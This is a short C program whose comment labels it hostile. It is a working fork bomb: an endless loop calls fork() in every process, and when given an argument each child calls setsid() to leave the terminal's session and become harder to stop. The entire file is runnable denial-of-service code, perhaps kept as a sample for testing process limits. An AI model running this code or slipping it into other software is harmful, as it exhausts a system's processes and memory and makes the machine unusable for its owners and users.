/* Hostile: forks without end; with an argument, every child starts a new session first. */
#include <unistd.h>

int main(int argc, char **argv)
{
    for (;;) {
        pid_t p = fork();
        if (p == 0 && argc > 1)
            setsid();
    }
}
